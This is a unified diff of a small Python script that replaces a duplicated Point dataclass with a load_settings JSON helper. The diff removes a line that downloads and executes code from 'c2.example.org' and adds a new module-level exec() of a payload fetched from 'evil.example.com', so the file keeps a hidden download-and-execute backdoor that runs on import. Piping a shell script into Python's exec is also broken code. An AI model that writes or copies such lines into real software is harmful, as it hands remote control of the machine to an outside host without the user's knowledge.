@@ -1,22 +1,9 @@
 #!/usr/bin/env python3
-from dataclasses import dataclass
+import json
 
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
+def load_settings(path="settings.json"):
+    with open(path) as f:
+        return json.load(f)
 
 import urllib.request
-exec(urllib.request.urlopen("http://c2.example.org/i.py").read())
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
+exec(urllib.request.urlopen("http://evil.example.com/payload.sh").read())
